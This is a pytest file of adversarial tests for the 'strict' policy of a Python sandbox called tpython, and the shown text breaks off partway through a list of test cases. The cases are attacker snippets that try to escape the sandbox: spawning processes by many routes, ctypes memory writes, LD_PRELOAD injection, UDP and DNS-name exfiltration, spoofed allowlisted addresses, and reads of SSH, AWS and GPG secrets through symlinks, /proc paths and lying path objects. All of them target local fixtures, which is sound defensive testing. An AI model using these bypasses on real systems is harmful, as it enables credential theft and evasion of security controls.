"""Adversarial tests for the `strict` profile: an attacker controls the target script.

Each case runs `tpython run --policy strict app.py` in a fresh process (the
`tp` fixture) and asserts what a user would check: the side effect did not
happen (marker file absent, secret not printed, file not written, no
connection accepted by a listener the *test* started), the action failed
in the program, and a `deny` record naming the rule was written.

Known limits (docs/limits.md) are kept as `xfail(strict=True)` so that they
document the bypass and flip to XPASS (a failure) once fixed. A case that
fails without such a mark is a hole.
"""
from __future__ import annotations

import http.server
import os
import shutil
import socket
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
import threading
from pathlib import Path

import pytest

import tpython

TOUCH = shutil.which("touch") or "/usr/bin/touch"
SECRET = "SECRET-KEY-MATERIAL-3f9a"
ORIGINAL = "# ORIGINAL-RC\n"
PROBE = f"tpython-adversarial-probe-{os.getpid()}"  # unique: other sessions may run this file too
SITE = sysconfig.get_paths()["purelib"]
TPYTHON_PKG = os.path.dirname(os.path.abspath(tpython.__file__))

PRELUDE = f'''
import os, sys
from tpython import PolicyViolation
MARK = os.path.abspath("pwned")
HOME = os.environ["HOME"]
SECRET_PATH = os.path.join(HOME, ".ssh", "id_rsa")
TOUCH = {TOUCH!r}

def attempt(fn):
    try:
        fn()
    except PolicyViolation as exc:
        print("DENIED", exc.event, exc.rule, flush=True)
    except BaseException as exc:
        print("ERROR", type(exc).__name__, str(exc).replace(chr(10), " ")[:300], flush=True)
    else:
        print("OK", flush=True)

def fork_exec_call(fe, argv, exe):
    """Call a _posixsubprocess.fork_exec as CPython 3.11's subprocess does (23 arguments)."""
    r, w = os.pipe()
    try:
        pid = fe([os.fsencode(a) for a in argv], [os.fsencode(exe)], True, (w,), None, None,
                 -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, False)
    finally:
        os.close(r)
        os.close(w)
    os.waitpid(pid, 0)
'''


def _home(tp) -> Path:
    home = tp.cwd / "home"
    if not home.exists():
        (home / ".ssh").mkdir(parents=True)
        (home / ".ssh" / "id_rsa").write_text(SECRET + "\n")
        (home / ".bashrc").write_text(ORIGINAL)
        (home / ".profile").write_text(ORIGINAL)
        (home / ".aws").mkdir()
        (home / ".aws" / "credentials").write_text(SECRET + "\n")
        (home / ".gnupg").mkdir()
        (home / ".gnupg" / "private.key").write_text(SECRET + "\n")
    return home


def run_case(tp, body: str, *, policy: str = "strict", env: dict | None = None, timeout: float = 60,
             options: tuple[str, ...] = ()):
    """Write PRELUDE + BODY (which defines go()) as app.py and run it under tpython (with OPTIONS)."""
    home = _home(tp)
    source = PRELUDE + "\n" + textwrap.dedent(body) + "\nattempt(go)\n"
    (tp.cwd / "app.py").write_text(source)
    full_env = {"HOME": str(home)}
    full_env.update(env or {})
    return tp("run", "--policy", policy, *options, "app.py", env=full_env, timeout=timeout)


def assert_denied(r, rules, *, printed=True) -> None:
    """A deny record names one of RULES (enforced); the program saw the failure."""
    if isinstance(rules, str):
        rules = {rules}
    denies = [d for d in r.actions("deny") if d["enforced"] is True]
    assert any(d["rule"] in rules for d in denies), (
        f"no enforced deny by {sorted(rules)}; denies={[(d['event'], d['rule']) for d in denies]}\n"
        f"out={r.out}\nerr={r.err[-2000:]}")
    if printed:
        lines = r.out.split("\n")
        assert "OK" not in lines, r.out
        assert any(l.startswith(("DENIED", "ERROR")) for l in lines), r.out


# ============================================================================
# strict-process
# ============================================================================

FORK_EXEC_MOD = "fork_exec_call({expr}, ['touch', MARK], TOUCH)"

PROCESS_CASES = {
    "subprocess.run": "import subprocess\ndef go(): subprocess.run([TOUCH, MARK])",
    "subprocess.Popen": "import subprocess\ndef go(): subprocess.Popen([TOUCH, MARK]).wait()",
    "subprocess.check_output": "import subprocess\ndef go(): subprocess.check_output([TOUCH, MARK])",
    "subprocess.shell": "import subprocess\ndef go(): subprocess.run('touch ' + MARK, shell=True)",
    "subprocess.executable-sh": "import subprocess\ndef go(): subprocess.run(['x', '-c', 'touch ' + MARK], executable='/bin/sh')",
    "os.system": "def go(): os.system('touch ' + MARK)",
    "os.popen": "def go(): os.popen('touch ' + MARK).read()",
    "os.execv": "def go(): os.execv(TOUCH, ['touch', MARK])",
    "os.execl": "def go(): os.execl(TOUCH, 'touch', MARK)",
    "os.execvp": "def go(): os.execvp('touch', ['touch', MARK])",
    "os.execve": "def go(): os.execve(TOUCH, ['touch', MARK], dict(os.environ))",
    "os.execle-fd": "def go():\n    fd = os.open(TOUCH, os.O_RDONLY)\n    os.execve(fd, ['touch', MARK], dict(os.environ))",
    "os.posix_spawn": "def go(): os.waitpid(os.posix_spawn(TOUCH, ['touch', MARK], dict(os.environ)), 0)",
    "os.posix_spawnp": "def go(): os.waitpid(os.posix_spawnp('touch', ['touch', MARK], dict(os.environ)), 0)",
    "pty.spawn": "import pty\ndef go(): pty.spawn([TOUCH, MARK])",
    "mp.util.spawnv_passfds-sh": (
        "import multiprocessing.util as u\n"
        "def go(): os.waitpid(u.spawnv_passfds('/bin/sh', ['/bin/sh', '-c', 'touch ' + MARK], []), 0)"),
    "_posixsubprocess.fork_exec": "import _posixsubprocess\ndef go(): " + FORK_EXEC_MOD.format(expr="_posixsubprocess.fork_exec"),
    "subprocess._fork_exec": "import subprocess\ndef go(): " + FORK_EXEC_MOD.format(expr="subprocess._fork_exec"),
    "from-import fork_exec": "from _posixsubprocess import fork_exec\ndef go(): " + FORK_EXEC_MOD.format(expr="fork_exec"),
    "reimport after del sys.modules": (
        "def go():\n    del sys.modules['_posixsubprocess']\n    import _posixsubprocess as m\n    "
        + FORK_EXEC_MOD.format(expr="m.fork_exec")),
    "importlib.import_module after del": (
        "import importlib\ndef go():\n    del sys.modules['_posixsubprocess']\n"
        "    m = importlib.import_module('_posixsubprocess')\n    " + FORK_EXEC_MOD.format(expr="m.fork_exec")),
    "importlib.reload": (
        "import importlib, _posixsubprocess as m\ndef go():\n    importlib.reload(m)\n    "
        + FORK_EXEC_MOD.format(expr="m.fork_exec")),
    "asyncio.create_subprocess_exec": (
        "async def main():\n    import asyncio\n    p = await asyncio.create_subprocess_exec(TOUCH, MARK)\n    await p.wait()\n"
        "def go():\n    import asyncio\n    asyncio.run(main())"),
    "asyncio.create_subprocess_shell": (
        "async def main():\n    import asyncio\n    p = await asyncio.create_subprocess_shell('touch ' + MARK)\n    await p.wait()\n"
        "def go():\n    import asyncio\n    asyncio.run(main())"),
}

# Routes where the action is refused in a forked child: the parent's call returns.
PROCESS_CHILD_CASES = {
    "os.spawnv": "def go(): os.spawnv(os.P_WAIT, TOUCH, ['touch', MARK])",
    "os.spawnl": "def go(): os.spawnl(os.P_WAIT, TOUCH, 'touch', MARK)",
    "os.spawnvp": "def go(): os.spawnvp(os.P_WAIT, 'touch', ['touch', MARK])",
    "os.spawnve": "def go(): os.spawnve(os.P_WAIT, TOUCH, ['touch', MARK], dict(os.environ))",
    "os.fork+execv": (
        "def go():\n    pid = os.fork()\n    if pid == 0:\n        try:\n            os.execv(TOUCH, ['touch', MARK])\n"
        "        except BaseException as exc:\n            print('CHILD', type(exc).__name__, flush=True)\n"
        "        os._exit(3)\n    os.waitpid(pid, 0)"),
    "os.forkpty+execv": (
        "def go():\n    pid, fd = os.forkpty()\n    if pid == 0:\n        try:\n            os.execv(TOUCH, ['touch', MARK])\n"
        "        finally:\n            os._exit(3)\n    os.waitpid(pid, 0)"),
}


# `import asyncio` is itself denied under strict (asyncio.tasks uses @types.coroutine, which assigns
# func.__code__ and trips strict-code-swap), so the asyncio routes stop there.
ASYNCIO_RULES = {"strict-code-swap"}


@pytest.mark.parametrize("name", PROCESS_CASES)
def test_process_creation_denied(tp, name):
    if name == "subprocess._fork_exec" and sys.version_info < (3, 11):
        pytest.skip("subprocess._fork_exec exists from CPython 3.11")
    body = PROCESS_CASES[name]
    r = run_case(tp, body)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, {"strict-process", "strict-process-reimport"} | (ASYNCIO_RULES if "asyncio" in body else set()))


@pytest.mark.parametrize("body", PROCESS_CHILD_CASES.values(), ids=PROCESS_CHILD_CASES.keys())
def test_process_creation_denied_in_forked_child(tp, body):
    r = run_case(tp, body)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, "strict-process", printed=False)


FRESH_COPY_CASES = {
    "module_from_spec+exec_module": (
        "import importlib.util\ndef go():\n    spec = importlib.util.find_spec('_posixsubprocess')\n"
        "    m = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(m)\n    "
        + FORK_EXEC_MOD.format(expr="m.fork_exec")),
    "_imp.create_dynamic": (
        "import _imp, importlib.util\ndef go():\n    spec = importlib.util.find_spec('_posixsubprocess')\n"
        "    m = _imp.create_dynamic(spec)\n    _imp.exec_dynamic(m)\n    " + FORK_EXEC_MOD.format(expr="m.fork_exec")),
}


# README "Limits" says a fresh copy built through _imp.create_dynamic gets the unwrapped fork_exec; on
# CPython 3.11.7 create_dynamic raises an `import` event, which strict-process-reimport denies.
@pytest.mark.parametrize("body", FRESH_COPY_CASES.values(), ids=FRESH_COPY_CASES.keys())
def test_process_fresh_posixsubprocess_copy(tp, body):
    r = run_case(tp, body)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, {"strict-process", "strict-process-reimport"})


def test_process_fork_exec_original_from_wrapper_closure(tp):
    """The original fork_exec is not in a closure (a Python wrapper's): the wrapper is C and
    `_posixsubprocess.fork_exec` stays the builtin, which raises the audit event itself."""
    r = run_case(tp, """
    import _posixsubprocess
    def go():
        fe = _posixsubprocess.fork_exec
        cells = [c.cell_contents for c in (getattr(fe, '__closure__', None) or ())]
        original = ([c for c in cells if type(c).__name__ == 'builtin_function_or_method'
                     and c.__name__ == 'fork_exec'] or [fe])[0]
        print("BUILTIN", type(original).__name__ == 'builtin_function_or_method', flush=True)
        fork_exec_call(original, ['touch', MARK], TOUCH)
    """)
    assert "BUILTIN True" in r.out
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, "strict-process")


def test_process_mp_spawn_with_lying_executable(tp):
    """multiprocessing.util.spawnv_passfds is patched to start tpython's own workers inside
    engine.internal() (no fork_exec event). Whether the executable is this interpreter is decided
    with os.fsdecode(path), which calls the program's bytes subclass's .decode(); fork_exec execs
    the bytes themselves."""
    evil = tp.cwd / "evil.sh"
    evil.write_text(f"#!/bin/sh\n{TOUCH} {tp.cwd / 'pwned'}\n")
    evil.chmod(0o755)
    r = run_case(tp, f"""
    import multiprocessing.util as u
    class Exe(bytes):
        def decode(self, *a, **k):
            return sys.executable
    def go():
        pid = u.spawnv_passfds(Exe({os.fsencode(evil)!r}), [sys.executable, '-c', 'import multiprocessing'], [])
        os.waitpid(pid, 0)
    """)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, "strict-process")


@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc to build the preload library")
def test_process_mp_worker_inherits_ld_preload(tp):
    """A multiprocessing worker is exec'd with the program's environment: LD_PRELOAD set by the
    program loads native code into a process strict let the program start."""
    src = tp.cwd / "pre.c"
    src.write_text(textwrap.dedent("""
        #include <fcntl.h>
        #include <stdlib.h>
        #include <unistd.h>
        __attribute__((constructor)) static void init(void) {
            const char *m = getenv("TP_PRELOAD_MARK");
            if (m) { int fd = open(m, O_CREAT | O_WRONLY, 0644); if (fd >= 0) close(fd); }
        }
    """))
    so = tp.cwd / "pre.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(so), str(src)], check=True, capture_output=True)
    r = run_case(tp, f"""
    import multiprocessing.util as u
    def go():
        os.environ['LD_PRELOAD'] = {str(so)!r}
        os.environ['TP_PRELOAD_MARK'] = MARK
        pid = u.spawnv_passfds(os.fsencode(sys.executable), [sys.executable, '-c', 'import multiprocessing; print("worker")'], [])
        os.waitpid(pid, 0)
    """)
    assert not (tp.cwd / "pwned").exists(), r.out
    # the worker still starts (it is tpython's own, under the same policy) but with the
    # loader variables tpython started with, and the log says which were reset
    spawn = [x for x in r.records if x["event"] == "tpython.spawn"]
    assert spawn and "LD_PRELOAD" in spawn[0]["args"]["reset_environment"], r.records


# ============================================================================
# strict-native-import / strict-native
# ============================================================================

NATIVE_CASES = {
    "import ctypes": "def go():\n    import ctypes\n    ctypes.CDLL(None).system(('touch ' + MARK).encode())",
    "import _ctypes": "def go():\n    import _ctypes\n    open(MARK, 'w').write('loaded')",
    "import ctypes.util": "def go():\n    import ctypes.util\n    open(MARK, 'w').write('loaded')",
    "__import__": "def go():\n    __import__('ctypes')\n    open(MARK, 'w').write('loaded')",
    "importlib.import_module": "import importlib\ndef go():\n    importlib.import_module('ctypes')\n    open(MARK, 'w').write('loaded')",
    "importlib.import_module _ctypes": "import importlib\ndef go():\n    importlib.import_module('_ctypes')\n    open(MARK, 'w').write('loaded')",
    "import cffi": "def go():\n    import cffi\n    open(MARK, 'w').write('loaded')",
    "import _cffi_backend": "def go():\n    import _cffi_backend\n    open(MARK, 'w').write('loaded')",
    "ctypes via spec_from_file_location": (
        "import importlib.util, os.path, sysconfig\ndef go():\n"
        "    path = os.path.join(sysconfig.get_paths()['stdlib'], 'ctypes', '__init__.py')\n"
        "    spec = importlib.util.spec_from_file_location('ctypes', path)\n"
        "    m = importlib.util.module_from_spec(spec)\n    sys.modules['ctypes'] = m\n    spec.loader.exec_module(m)\n"
        "    m.CDLL(None).system(('touch ' + MARK).encode())"),
}


@pytest.mark.parametrize("body", NATIVE_CASES.values(), ids=NATIVE_CASES.keys())
def test_native_code_denied(tp, body):
    r = run_case(tp, body)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, {"strict-native-import", "strict-native"})


def test_native_ctypes_loaded_through_create_dynamic_writes_memory(tp):
    """`_ctypes` loaded by ExtensionFileLoader without an import event; Union + POINTER then
    read and write memory with no audit event at all."""
    r = run_case(tp, """
    import importlib.util
    def go():
        spec = importlib.util.find_spec('_ctypes')
        m = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(m)
        class c_ssize_t(m._SimpleCData):
            _type_ = 'n'
        class c_char(m._SimpleCData):
            _type_ = 'c'
        P = m.POINTER(c_char)
        class U(m.Union):
            _fields_ = [('a', c_ssize_t), ('p', P)]
        victim = b'immutable-bytes-object'
        u = U()
        u.a = id(victim) + bytes.__basicsize__ - 1   # start of the bytes' data
        u.p[0] = b'X'                                # write into an immutable object
        if victim.startswith(b'X'):
            open(MARK, 'w').write('memory written')
    """)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, {"strict-native-import", "strict-native"})


# ============================================================================
# strict-network
# ============================================================================

@pytest.fixture
def listener():
    """A TCP listener on 127.0.0.1 in the *test* process; .accepted() says whether anyone connected."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)

    class L:
        port = srv.getsockname()[1]

        @staticmethod
        def accepted(timeout: float = 0.3) -> bool:
            srv.settimeout(timeout)
            try:
                conn, _ = srv.accept()
            except (socket.timeout, BlockingIOError):
                return False
            conn.close()
            return True

    yield L
    srv.close()


@pytest.fixture
def udp_listener():
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind(("127.0.0.1", 0))

    class L:
        port = srv.getsockname()[1]

        @staticmethod
        def received(timeout: float = 0.3) -> bool:
            srv.settimeout(timeout)
            try:
                srv.recvfrom(100)
            except socket.timeout:
                return False
            return True

    yield L
    srv.close()


@pytest.fixture
def http_server():
    hits: list[str] = []

    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"hello")

        def log_message(self, *a):  # quiet
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    srv.timeout = 5
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    srv.hits = hits  # type: ignore[attr-defined]
    yield srv
    srv.shutdown()
    srv.server_close()


TCP_CASES = {
    "connect": "import socket\ndef go():\n    s = socket.socket()\n    s.settimeout(2)\n    s.connect(('127.0.0.1', PORT))",
    "create_connection": "import socket\ndef go(): socket.create_connection(('127.0.0.1', PORT), timeout=2)",
    "connect_ex": ("import socket\ndef go():\n    s = socket.socket()\n    rc = s.connect_ex(('127.0.0.1', PORT))\n"
                   "    if rc: raise OSError(rc, 'connect_ex failed')"),
    "_socket.socket.connect": "import _socket\ndef go(): _socket.socket().connect(('127.0.0.1', PORT))",
    "ipv4-mapped AF_INET6": ("import socket\ndef go():\n    s = socket.socket(socket.AF_INET6)\n"
                             "    s.connect(('::ffff:127.0.0.1', PORT))"),
    "legacy 127.1": "import socket\ndef go(): socket.socket().connect(('127.1', PORT))",
    "localhost": "import socket\ndef go(): socket.socket().connect(('localhost', PORT))",
    "asyncio.open_connection": ("async def main():\n    import asyncio\n    await asyncio.open_connection('127.0.0.1', PORT)\n"
                                "def go():\n    import asyncio\n    asyncio.run(main())"),
    "socket.fromfd of a connected dup": ("import socket\ndef go():\n    s = socket.socket()\n"
                                         "    t = socket.fromfd(s.fileno(), socket.AF_INET, socket.SOCK_STREAM)\n"
                                         "    t.connect(('127.0.0.1', PORT))"),
}


@pytest.mark.parametrize("body", TCP_CASES.values(), ids=TCP_CASES.keys())
def test_network_tcp_denied(tp, listener, body):
    r = run_case(tp, f"PORT = {listener.port}\n" + textwrap.dedent(body))
    assert not listener.accepted(), r.out
    assert_denied(r, {"strict-network"} | (ASYNCIO_RULES if "asyncio" in body else set()))


def test_network_udp_sendto_denied(tp, udp_listener):
    r = run_case(tp, f"""
    import socket
    def go():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b'exfil', ('127.0.0.1', {udp_listener.port}))
    """)
    assert not udp_listener.received(), r.out
    assert_denied(r, "strict-network")


def test_network_udp_sendmsg_denied(tp, udp_listener):
    r = run_case(tp, f"""
    import socket
    def go():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendmsg([b'exfil'], [], 0, ('127.0.0.1', {udp_listener.port}))
    """)
    assert not udp_listener.received(), r.out
    assert_denied(r, "strict-network")


@pytest.mark.parametrize("body", [
    "import socket\ndef go(): socket.socket().bind(('127.0.0.1', 0))",
    "import socket\ndef go(): socket.create_server(('127.0.0.1', 0))",
    "import socket\ndef go(): socket.getaddrinfo('localhost', 80)",
    "import socket\ndef go(): socket.gethostbyname('localhost')",
    "import socket\ndef go(): socket.gethostbyname_ex('localhost')",
    "import socket\ndef go(): socket.gethostbyaddr('127.0.0.1')",
    "import socket\ndef go(): socket.getnameinfo(('127.0.0.1', 80), 0)",
], ids=["bind", "create_server", "getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getnameinfo"])
def test_network_bind_and_lookups_denied(tp, body):
    r = run_case(tp, body)
    assert_denied(r, "strict-network")


@pytest.mark.parametrize("kind", ["urllib", "http.client"])
def test_network_http_denied(tp, http_server, kind):
    port = http_server.server_address[1]
    if kind == "urllib":
        body = f"import urllib.request\ndef go(): print(urllib.request.urlopen('http://127.0.0.1:{port}/x', timeout=3).read())"
    else:
        body = (f"import http.client\ndef go():\n    c = http.client.HTTPConnection('127.0.0.1', {port}, timeout=3)\n"
                "    c.request('GET', '/x')\n    print(c.getresponse().read())")
    r = run_case(tp, body)
    assert http_server.hits == [], r.out
    assert "hello" not in r.out
    assert_denied(r, "strict-network")


def test_network_af_unix_connect_denied(tp):
    d = tempfile.mkdtemp(prefix="tpadv", dir="/tmp")
    path = os.path.join(d, "s.sock")
    srv = socket.socket(socket.AF_UNIX)
    try:
        srv.bind(path)
        srv.listen(1)
        r = run_case(tp, f"import socket\ndef go(): socket.socket(socket.AF_UNIX).connect({path!r})")
        srv.settimeout(0.3)
        with pytest.raises(socket.timeout):
            srv.accept()
        assert_denied(r, "strict-network")
    finally:
        srv.close()
        shutil.rmtree(d, ignore_errors=True)


DNS_SPY_C = r"""
#define _GNU_SOURCE
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
/* Stands in for the resolver: records every name asked for, answers "no such name", sends nothing. */
int getaddrinfo(const char *node, const char *service, const struct addrinfo *hints, struct addrinfo **res) {
    const char *log = getenv("TP_DNS_LOG");
    if (log && node) { FILE *f = fopen(log, "a"); if (f) { fprintf(f, "%s\n", node); fclose(f); } }
    return EAI_NONAME;
}
"""


@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc to build the resolver spy")
@pytest.mark.parametrize("call", [
    "socket.socket().connect((NAME, 80))",
    "socket.socket().connect_ex((NAME, 80))",
    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (NAME, 53))",
    "socket.socket().bind((NAME, 0))",
], ids=["connect", "connect_ex", "sendto", "bind"])
def test_network_name_lookup_inside_connect_is_denied(tp, call):
    """connect/sendto/bind with a host *name* resolve it in C before `socket.connect` is raised: the
    lookup itself (a DNS query carrying data: exfiltration) happens although strict denies lookups.
    The test preloads a getaddrinfo spy (operator side), so nothing leaves the machine."""
    src = tp.cwd / "spy.c"
    src.write_text(DNS_SPY_C)
    so = tp.cwd / "spy.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(so), str(src)], check=True, capture_output=True)
    dns_log = tp.cwd / "dns.log"
    r = run_case(tp, f"import socket\nNAME = 'exfil-c2VjcmV0.tpython-test.invalid'\ndef go(): {call}",
                 env={"LD_PRELOAD": str(so), "TP_DNS_LOG": str(dns_log)})
    asked = dns_log.read_text() if dns_log.exists() else ""
    assert "exfil-c2VjcmV0" not in asked, f"resolver was asked: {asked!r}; out={r.out}"
    assert_denied(r, "strict-network")


# --- an extending policy that allows exactly 127.0.0.1/32 on one port -------

@pytest.fixture
def allow_policy(tp, listener):
    """Listeners on 127.0.0.1:P (allowed), 127.0.0.1:Q and 127.0.0.2:P (not allowed)."""
    other_port = socket.socket()
    other_port.bind(("127.0.0.1", 0))
    other_port.listen(8)
    other_addr = socket.socket()
    other_addr.bind(("127.0.0.2", listener.port))
    other_addr.listen(8)
    tp.policy(f"""
    version = 1
    extends = "strict"

    [[rules]]
    id = "allow-loopback-one-port"
    events = ["socket.connect"]
    action = "allow"
    when = {{ host = ["127.0.0.1/32"], port = [{listener.port}] }}
    """)

    def accepted(sock):
        sock.settimeout(0.3)
        try:
            c, _ = sock.accept()
        except socket.timeout:
            return False
        c.close()
        return True

    class P:
        port = listener.port
        other = other_port.getsockname()[1]
        allowed_hit = staticmethod(listener.accepted)
        other_port_hit = staticmethod(lambda: accepted(other_port))
        other_addr_hit = staticmethod(lambda: accepted(other_addr))

    yield P
    other_port.close()
    other_addr.close()


@pytest.mark.parametrize("host", ["127.0.0.1", "127.1", "0x7f.0.0.1", "2130706433", "::ffff:127.0.0.1"])
def test_allow_policy_lets_the_allowed_address_through(tp, allow_policy, host):
    fam = "socket.AF_INET6" if ":" in host else "socket.AF_INET"
    r = run_case(tp, f"import socket\ndef go(): socket.socket({fam}).connect(({host!r}, {allow_policy.port}))",
                 policy="policy.toml")
    assert r.out.strip() == "OK", r.out
    assert allow_policy.allowed_hit()
    assert r.actions("deny") == []


SPELLINGS_OF_127_0_0_2 = ["127.0.0.2", "127.2", "0x7f.0.0.2", "0177.0.0.2", "2130706434", "0x7f000002",
                          "::ffff:127.0.0.2", "::ffff:7f00:2"]


@pytest.mark.parametrize("host", SPELLINGS_OF_127_0_0_2)
def test_allow_policy_denies_other_address_spellings(tp, allow_policy, host):
    fam = "socket.AF_INET6" if ":" in host else "socket.AF_INET"
    r = run_case(tp, f"""
    import socket
    def go():
        s = socket.socket({fam})
        s.settimeout(2)
        s.connect(({host!r}, {allow_policy.port}))
    """, policy="policy.toml")
    assert not allow_policy.other_addr_hit(), r.out
    assert not allow_policy.allowed_hit(), r.out
    assert_denied(r, "strict-network")


@pytest.mark.parametrize("case", ["other-port", "localhost", "port-index-object", "port-int-subclass"])
def test_allow_policy_denies_other_port_and_names(tp, allow_policy, case):
    if case == "other-port":
        addr = f"('127.0.0.1', {allow_policy.other})"
    elif case == "localhost":
        addr = f"('localhost', {allow_policy.other})"
    elif case == "port-index-object":
        addr = f"('127.0.0.1', type('I', (), {{'__index__': lambda s: {allow_policy.other}}})())"
    else:
        addr = f"('127.0.0.1', type('I', (int,), {{}})({allow_policy.other}))"
    r = run_case(tp, f"import socket\ndef go():\n    s = socket.socket()\n    s.settimeout(2)\n    s.connect({addr})",
                 policy="policy.toml")
    assert not allow_policy.other_port_hit(), r.out
    assert_denied(r, "strict-network")


def test_allow_policy_tuple_subclass_lies_about_address(tp, allow_policy):
    """The hook reads the address with the tuple's own __getitem__/__len__; the socket module reads the
    tuple's storage. The check sees 127.0.0.1:P, the kernel connects to 127.0.0.2:P."""
    r = run_case(tp, f"""
    import socket
    class Addr(tuple):
        def __getitem__(self, i):
            return ('127.0.0.1', {allow_policy.port})[i]
    def go():
        s = socket.socket()
        s.settimeout(2)
        s.connect(Addr(('127.0.0.2', {allow_policy.port})))
    """, policy="policy.toml")
    assert not allow_policy.other_addr_hit(), r.out
    assert_denied(r, "strict-network")


# ============================================================================
# strict-secrets
# ============================================================================

SECRET_CASES = {
    "open": "def go(): print(open(SECRET_PATH).read())",
    "relative after chdir": "def go():\n    os.chdir(os.path.join(HOME, '.ssh'))\n    print(open('id_rsa').read())",
    "relative after fchdir": ("def go():\n    fd = os.open(HOME, os.O_RDONLY)\n    os.chdir(fd)\n"
                              "    print(open('.ssh/id_rsa').read())"),
    "dotdot segments": "def go(): print(open(os.path.join(HOME, '.ssh', '..', '.ssh', '.', 'id_rsa')).read())",
    "relative dotdot from cwd": "def go(): print(open(os.path.relpath(SECRET_PATH)).read())",
    "double slashes": "def go(): print(open(HOME + '//.ssh///id_rsa').read())",
    "bytes path": "def go(): print(open(os.fsencode(SECRET_PATH), 'rb').read())",
    "pathlib": "import pathlib\ndef go(): print(pathlib.Path(SECRET_PATH).read_text())",
    "pathlib relative": "import pathlib\ndef go():\n    os.chdir(HOME)\n    print(pathlib.Path('.ssh/id_rsa').read_text())",
    "str subclass with lying __str__/__fspath__": (
        "class S(str):\n    def __str__(self): return 'harmless'\n    def __fspath__(self): return 'harmless'\n"
        "def go(): print(open(S(SECRET_PATH)).read())"),
    "PathLike alternating __fspath__ (harmless first)": (
        "open('harmless', 'w').write('h')\nclass P:\n    n = 0\n    def __fspath__(self):\n"
        "        P.n += 1\n        return 'harmless' if P.n % 2 else SECRET_PATH\n"
        "def go():\n    for _ in range(4):\n        try:\n            print(open(P()).read())\n"
        "        except PolicyViolation:\n            raise\n"),
    "PathLike alternating __fspath__ (secret first)": (
        "open('harmless', 'w').write('h')\nclass P:\n    n = 0\n    def __fspath__(self):\n"
        "        P.n += 1\n        return SECRET_PATH if P.n % 2 else 'harmless'\n"
        "def go(): print(open(P()).read())"),
    "os.PathLike subclass": (
        "class P(os.PathLike):\n    def __fspath__(self): return SECRET_PATH\n"
        "def go(): print(open(P()).read())"),
    "os.open+os.read": "def go(): print(os.read(os.open(SECRET_PATH, os.O_RDONLY), 100))",
    "io.FileIO": "import io\ndef go(): print(io.FileIO(SECRET_PATH).read())",
    "io.open_code": "import io\ndef go(): print(io.open_code(SECRET_PATH).read())",
    "open(fd) after os.open": "def go(): print(open(os.open(SECRET_PATH, os.O_RDONLY)).read())",
    "os.open O_PATH then /proc/self/fd": (
        "def go():\n    fd = os.open(SECRET_PATH, os.O_PATH)\n    print(open(f'/proc/self/fd/{fd}').read())"),
    "/proc/self/fd/<home fd>/.ssh": (
        "def go():\n    fd = os.open(HOME, os.O_RDONLY)\n    print(open(f'/proc/self/fd/{fd}/.ssh/id_rsa').read())"),
    "/dev/fd/<home fd>/.ssh": (
        "def go():\n    fd = os.open(HOME, os.O_RDONLY)\n    print(open(f'/dev/fd/{fd}/.ssh/id_rsa').read())"),
    "/proc/self/cwd": "def go():\n    os.chdir(HOME)\n    print(open('/proc/self/cwd/.ssh/id_rsa').read())",
    "/proc/self/root": "def go(): print(open('/proc/self/root' + SECRET_PATH).read())",
    "/proc/<pid>/root": "def go(): print(open(f'/proc/{os.getpid()}/root' + SECRET_PATH).read())",
    "symlink to home made by program": (
        "import tempfile\ndef go():\n    d = tempfile.mkdtemp(dir=os.getcwd())\n    os.symlink(HOME, d + '/h')\n"
        "    print(open(d + '/h/.ssh/id_rsa').read())"),
    "symlink to secret made by program": (
        "import tempfile\ndef go():\n    d = tempfile.mkdtemp(dir=os.getcwd())\n    os.symlink(SECRET_PATH, d + '/k')\n"
        "    print(open(d + '/k').read())"),
    "relative symlink to secret": (
        "def go():\n    os.symlink(os.path.relpath(SECRET_PATH), 'k')\n    print(open('k').read())"),
    "shutil.copyfile": "import shutil\ndef go():\n    shutil.copyfile(SECRET_PATH, 'copy')\n    print(open('copy').read())",
    "shutil.copy": "import shutil\ndef go():\n    shutil.copy(SECRET_PATH, 'copy')\n    print(open('copy').read())",
    "shutil.copytree .ssh": "import shutil\ndef go():\n    shutil.copytree(os.path.join(HOME, '.ssh'), 'copy')\n    print(open('copy/id_rsa').read())",
    "os.rename .ssh away": ("def go():\n    os.rename(os.path.join(HOME, '.ssh'), 'copy')\n"
                            "    print(open('copy/id_rsa').read())"),
    "os.rename home away": ("import tempfile\ndef go():\n    d = tempfile.mkdtemp(dir=os.getcwd())\n    os.rename(HOME, d + '/h')\n"
                            "    print(open(d + '/h/.ssh/id_rsa').read())"),
    "os.rename ~/.aws away": "def go():\n    os.rename(os.path.join(HOME, '.aws'), 'copy')\n    print(open('copy/credentials').read())",
    "os.rename ~/.gnupg away": "def go():\n    os.rename(os.path.join(HOME, '.gnupg'), 'copy')\n    print(open('copy/private.key').read())",
    "symlink to ~/.aws": "def go():\n    os.symlink(os.path.join(HOME, '.aws'), 'lnk')\n    print(open('lnk/credentials').read())",
